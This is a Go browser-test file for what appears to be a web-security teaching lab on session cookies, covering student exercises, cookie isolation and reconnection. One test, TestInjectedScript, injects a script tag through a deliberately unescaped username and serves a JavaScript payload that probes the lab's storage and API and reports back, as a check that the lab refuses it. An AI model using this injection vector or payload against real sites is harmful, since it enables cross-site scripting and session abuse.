package app

import (
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// TestStudent does all four exercises in a real browser as a student would, in
// both languages, while another browser looks on.
func TestStudent(t *testing.T) {
	for _, lang := range []struct{ code, start, saw string }{
		{"ko", "지금 시작", "서버가 봄"},
		{"en", "Start", "server saw it"},
	} {
		t.Run(lang.code, func(t *testing.T) {
			l := start(t)
			// The onlooker's connections go through taps that keep every byte it received.
			labTap, demoTap := newByteTap(t, l.url), newByteTap(t, l.demo)
			onlooker := newChromium(t, lang.code, chromedp.Flag("host-resolver-rules",
				"MAP "+hostOf(l.url)+" "+labTap.addr+", MAP "+hostOf(l.demo)+" "+demoTap.addr))
			onlooker.open(l.url + "/lessons/session?lang=" + lang.code)
			onlooker.wait("its own row", "document.querySelector('.st tbody tr.is-mine')")

			b := ownChromium(t, lang.code)
			b.open(l.url + "/")
			if got := b.text("#start"); !strings.Contains(got, lang.start) {
				t.Errorf("the start button says %q", got)
			}
			b.click("#start")
			b.wait("the own row", "document.querySelector('.st tbody tr.is-mine')")

			b.login("김민아")
			b.passed("login")

			b.click("#frame-a [name=reload]")
			b.wait("the row question to be next", "document.querySelectorAll('#ex-check .steps li.done').length === 2")
			eval[any](b, "document.querySelector('#ex-check').open = true")
			b.click(".st tr.is-mine button.sid")
			b.passed("check")

			b.click(".st tr.is-mine button.danger")
			b.wait("the row to go", "document.querySelectorAll('#ex-delete .steps li.done').length === 1")
			b.click("#frame-a [name=reload]")
			b.passed("delete")

			b.login("민아")
			b.wait("the welcome", "document.querySelector('.st tr.is-mine .name').textContent === '민아'")
			clue, cookie := b.lastLogin()
			if clue == "" || !strings.HasPrefix(cookie, "sessionid=") {
				t.Fatalf("the Network tab shows clue %q and cookie %q", clue, cookie)
			}
			eval[any](b, "document.querySelector('#ex-network').open = true")
			b.fill("#a-network-clue", "wrong")
			b.click("form[data-question=clue] button")
			b.wait("the answer to a wrong clue", "document.querySelector('#a-network-clue[aria-invalid=true]')")
			b.fill("#a-network-clue", clue)
			b.click("form[data-question=clue] button")
			b.wait("the tick of the clue", "document.querySelector('form[data-question=clue] output.right')")
			b.fill("#a-network-cookie", "Cookie: "+cookie)
			b.click("form[data-question=cookie] button")
			b.passed("network")

			if ticks := eval[int](b, "document.querySelectorAll('.ex[data-state=passed]').length"); ticks != 4 {
				t.Errorf("%d ticks, want 4", ticks)
			}
			if page := b.text(".prose"); !strings.Contains(page, lang.saw) {
				t.Errorf("no %q in the lesson", lang.saw)
			}

			// The ticks are there again after a reload.
			b.run(chromedp.Reload())
			for _, id := range []string{"login", "check", "delete", "network"} {
				b.passed(id)
			}

			// The onlooker saw the row arrive, by its tag and name, and none of its id.
			onlooker.wait("the masked row", "[...document.querySelectorAll('.st tbody tr:not(.is-mine) .name')].some(e => e.textContent === '민아')")
			id := strings.TrimPrefix(cookie, "sessionid=")
			for name, tap := range map[string]*byteTap{"lab": labTap, "demo": demoTap} {
				received := tap.received()
				if len(received) < 300 {
					t.Errorf("only %d bytes came from the %s", len(received), name)
				}
				if strings.Contains(received, id) || strings.Contains(received, id[9:]) {
					t.Errorf("the onlooker received the student's session ID from the %s", name)
				}
			}
			if !strings.Contains(labTap.received(), id[:4]) {
				t.Error("the onlooker did not receive the tag: the tap does not work")
			}
		})
	}
}

// TestOneCookie: the demo's requests carry one cookie, its own, whatever pages
// of the lab were visited before.
func TestOneCookie(t *testing.T) {
	l := start(t)
	b := newChromium(t, "ko")
	for _, path := range []string{"/", "/?lang=en", "/nope"} {
		b.open(l.url + path)
	}
	for _, path := range []string{"/lessons/session?lang=en", "/lessons/session"} {
		b.open(l.url + path)
		b.wait("the own row", "document.querySelector('.st tbody tr.is-mine')")
		// A request that uses the row again shows that the browser has the cookie.
		before := b.text(".st tr.is-mine .n")
		b.click("#frame-a [name=reload]")
		b.wait("the reload", "Number(document.querySelector('.st tr.is-mine .n').textContent) > %s", before)
	}
	b.login("kim")
	b.passed("login")
	requests := b.seen(l.demo + "/s/")
	first := true
	for _, r := range requests {
		cookie := r.Headers["cookie"]
		if first && cookie != "" {
			t.Errorf("the first request carries %q", cookie)
		}
		if !first && (!strings.HasPrefix(cookie, "sessionid=") || strings.Contains(cookie, ";")) {
			t.Errorf("%s %s carries %q", r.Method, r.URL, cookie)
		}
		first = false
	}
	if len(requests) < 4 {
		t.Errorf("only %d requests to the demo", len(requests))
	}
	for _, r := range b.seen(l.url) {
		if r.Headers["cookie"] != "" {
			t.Errorf("%s carries %q", r.URL, r.Headers["cookie"])
		}
	}
}

// TestJars: a foreign sessionid at / and the walk-in's cookie merge no jars. Two
// desks and the walk-in keep three rows.
func TestJars(t *testing.T) {
	for _, foreign := range []string{"sessionid=django; Path=/", "theirs=sessionid=django; Path=/"} {
		t.Run(foreign, func(t *testing.T) {
			l := start(t)
			_, port, _ := net.SplitHostPort(serveText(t, "text/plain", foreign, ""))

			b := newChromium(t, "ko")
			b.open("http://localhost:" + port + "/")
			b.open(l.demo + "/")
			b.fill("input[name=username]", "walkin")
			b.click("input[type=submit]")
			b.wait("the walk-in's welcome", "document.querySelector('h1')")

			b.open(l.url + "/lessons/session")
			b.wait("the first desk's row", "document.querySelector('.st tbody tr.is-mine')")
			b.login("first")
			b.passed("login")
			if note := b.text(".wire .req"); !strings.Contains(note, "sessionid=django") || b.text(".wire .req .about") == "" {
				t.Errorf("the panel does not tell of the foreign pair: %s", note)
			}
			eval[any](b, "localStorage.clear()")
			b.open(l.url + "/lessons/session")
			b.wait("the second desk's row", "document.querySelector('.st tbody tr.is-mine .name.none')")
			b.login("second")
			b.passed("login")
			b.open(l.demo + "/")
			if page := b.text("h1"); page != "Welcome, walkin!" {
				t.Errorf("the walk-in is greeted with %q", page)
			}
			_, body := l.call(t, "GET", "/api/rooms/main/sessions", "", "")
			names := map[string]bool{}
			for _, row := range decode[tableView](t, body).Sessions {
				if row.Username != nil {
					names[*row.Username] = true
				}
			}
			if len(names) != 3 || !names["walkin"] || !names["first"] || !names["second"] {
				t.Errorf("the rows are %s", body)
			}
		})
	}
}

// TestInjectedScript: a script in the demo, let in by the unescaped name, reads
// no storage of the lab's and calls its API with nobody's rights.
func TestInjectedScript(t *testing.T) {
	l := start(t)
	b := newChromium(t, "ko")
	b.open(l.url + "/lessons/session")
	b.wait("the own row", "document.querySelector('.st tbody tr.is-mine')")
	attack := `(async () => {
		const got = [];
		const attempt = async (what, f) => { try { got.push(what + '=' + await f()); } catch (e) { got.push(what + '!' + e.name); } };
		await attempt('parent-storage', () => Object.keys(parent.localStorage).length);
		await attempt('parent-document', () => parent.document.title);
		await attempt('own-storage', () => Object.keys(localStorage).filter(k => k.startsWith('lab')).length);
		const lab = '` + l.url + `';
		await attempt('read', async () => (await fetch(lab + '/api/rooms/main/sessions')).status);
		await attempt('read-with-credentials', async () => (await fetch(lab + '/api/rooms/main/sessions', {credentials: 'include'})).status);
		await attempt('blind-read', async () => (await fetch(lab + '/api/rooms/main/sessions', {mode: 'no-cors'})).status);
		await attempt('delete', async () => (await fetch(lab + '/api/rooms/main/sessions/x', {method: 'DELETE'})).status);
		await attempt('seat', async () => (await fetch(lab + '/api/seats', {method: 'POST', mode: 'no-cors', body: '{}'})).type);
		await attempt('stream', async () => (await fetch(lab + '/api/rooms/main/events', {mode: 'no-cors'})).type);
		await fetch('report?' + encodeURIComponent(got.join(' ')));
	})()`
	// A name has 64 characters at most, so the script itself is the attacker's.
	attacker := serveText(t, "text/javascript", "", attack)
	b.login("<script src=//" + attacker + "></script>")
	events := l.stream(t, "", "")
	m := events.until(func(m message) bool { return strings.Contains(m.Data, "/report?") })
	_, report, _ := strings.Cut(m.Data, "/report?")
	report, _, _ = strings.Cut(report, `"`)
	for _, want := range []string{"parent-storage!SecurityError", "parent-document!SecurityError", "own-storage%3D0", "read!TypeError",
		"read-with-credentials!TypeError", "blind-read!TypeError", "delete!TypeError", "seat!TypeError", "stream!TypeError"} {
		if !strings.Contains(report, want) {
			t.Errorf("%s is missing in the report %s", want, report)
		}
	}
	// Whatever it could not read, the lab refused.
	refusals := map[string]int64{}
	b.until("five refusals", func() bool {
		for _, r := range b.sent {
			if !strings.HasPrefix(r.URL, l.url+"/api/") || r.Headers["sec-fetch-site"] != "same-site" {
				continue
			}
			for _, a := range b.answers {
				if a.ID == r.ID {
					refusals[string(r.ID)+" "+r.Method+" "+r.URL] = a.Status
				}
			}
		}
		return len(refusals) >= 5
	})
	for what, status := range refusals {
		if status != 401 && status != 403 && !strings.Contains(what, " OPTIONS ") {
			t.Errorf("%s by the script: %d", what, status)
		}
	}
}

// TestRestartInTheBrowser: an open page comes back by itself after a restart,
// with its ticks, and says why the table is empty.
func TestRestartInTheBrowser(t *testing.T) {
	dir := t.TempDir()
	l := start(t, "-data", dir)
	b := newChromium(t, "ko")
	b.open(l.url + "/lessons/session")
	b.wait("the own row", "document.querySelector('.st tbody tr.is-mine')")
	b.login("kim")
	b.passed("login")
	token := eval[string](b, "localStorage.getItem('lab.seat.main')")
	if err := l.stop(); err != nil {
		t.Fatal(err)
	}
	b.wait("the loss", "document.querySelector('.link[data-state=lost]')")
	start(t, "-data", dir, "-addr", "localhost:"+portIn(l.url), "-demo-addr", "localhost:"+portIn(l.demo))
	b.wait("the connection", "document.querySelector('.link[data-state=open]')")
	b.wait("the reason", "document.querySelector('.st tfoot').textContent.includes('다시 시작')")
	b.passed("login")
	b.click("#frame-a [name=reload]")
	b.wait("the row under the old cookie", "document.querySelector('.st tbody tr.is-mine .name.none')")
	if eval[string](b, "localStorage.getItem('lab.seat.main')") != token {
		t.Error("the page took another seat")
	}
	b.login("kim")
	b.wait("the welcome", "document.querySelector('.st tr.is-mine .name').textContent === 'kim'")
}

// TestOneFrame: a row is there in the frame after its event's bytes came.
func TestOneFrame(t *testing.T) {
	l := start(t)
	b := newChromium(t, "ko")
	b.open(l.url + "/lessons/session")
	b.wait("the connection", "document.querySelector('.link[data-state=open]') && document.querySelector('.st tbody tr.is-mine')")
	// The page decodes what comes in; the frame that is asked for there and then
	// is the one that has to show it.
	eval[any](b, `(() => {
		const decode = TextDecoder.prototype.decode;
		TextDecoder.prototype.decode = function (...args) {
			const text = decode.apply(this, args);
			if (text.includes('"new":true')) {
				requestAnimationFrame(() => queueMicrotask(() => setTimeout(() => {
					document.documentElement.dataset.rows = document.querySelectorAll('.st tbody tr[data-tag]').length;
				})));
			}
			return text;
		};
	})()`)
	other := l.seat(t)
	newBrowser().get(t, other.Demo)
	b.wait("the frame", "document.documentElement.dataset.rows")
	if rows := eval[string](b, "document.documentElement.dataset.rows"); rows != "2" {
		t.Errorf("%s rows in the frame after the event, want 2", rows)
	}
}

// TestHeals: a lost connection is shown, and comes back by itself.
func TestHeals(t *testing.T) {
	l := start(t)
	tap := newByteTap(t, l.url)
	b := newChromium(t, "ko", chromedp.Flag("host-resolver-rules", "MAP "+hostOf(l.url)+" "+tap.addr))
	b.open(l.url + "/lessons/session")
	b.wait("the connection", "document.querySelector('.link[data-state=open]')")
	tap.cut(true)
	b.wait("the loss to be shown", "document.querySelector('.link[data-state=lost]')")
	other := l.seat(t)
	newBrowser().get(t, other.Demo)
	tap.cut(false)
	b.wait("the connection to heal", "document.querySelector('.link[data-state=open]')")
	b.wait("the row that came meanwhile", "document.querySelectorAll('.st tbody tr[data-tag]').length === 2")
}

// serveText is another program on this machine. It returns its address.
func serveText(t *testing.T, kind, cookie, text string) string {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", kind)
		if cookie != "" {
			w.Header().Set("Set-Cookie", cookie)
		}
		_, _ = io.WriteString(w, text)
	})}
	go func() { _ = server.Serve(listener) }()
	t.Cleanup(func() { _ = server.Close() })
	return listener.Addr().String()
}

func portIn(url string) string { return url[strings.LastIndex(url, ":")+1:] }

func hostOf(url string) string { return strings.TrimPrefix(url, "http://") }

// byteTap passes connections on to a server and keeps what came back.
type byteTap struct {
	addr string

	mu      sync.Mutex
	bytes   strings.Builder
	conns   map[net.Conn]bool
	refuses bool
}

func newByteTap(t *testing.T, url string) *byteTap {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tap := &byteTap{addr: listener.Addr().String(), conns: map[net.Conn]bool{}}
	var running sync.WaitGroup
	running.Go(func() {
		for {
			client, err := listener.Accept()
			if err != nil {
				return
			}
			server, err := net.DialTimeout("tcp", hostOf(url), time.Second)
			if err != nil || !tap.add(client, server) {
				_ = client.Close()
				continue
			}
			running.Go(func() { _, _ = io.Copy(server, client); _ = server.Close() })
			running.Go(func() { _, _ = io.Copy(io.MultiWriter(client, tap), server); _ = client.Close() })
		}
	})
	t.Cleanup(func() { _ = listener.Close(); tap.cut(true); running.Wait() })
	return tap
}

func (p *byteTap) add(conns ...net.Conn) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, c := range conns {
		if p.refuses {
			_ = c.Close()
		}
		p.conns[c] = true
	}
	return !p.refuses
}

// cut ends all connections and refuses new ones, or takes them again.
func (p *byteTap) cut(off bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.refuses = off
	for c := range p.conns {
		if off {
			_ = c.Close()
		}
	}
	clear(p.conns)
}

// Write keeps what came back.
func (p *byteTap) Write(b []byte) (int, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.bytes.Write(b)
}

func (p *byteTap) received() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.bytes.String()
}
